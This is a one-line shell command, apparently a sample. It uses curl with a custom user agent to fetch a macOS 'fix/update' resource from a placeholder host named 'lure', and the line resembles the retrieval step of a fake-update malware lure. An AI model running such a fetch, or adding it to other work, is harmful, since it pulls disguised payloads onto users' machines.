curl -A mac-cur3 https://up.lure.invalid/fix/mac/update/version/1
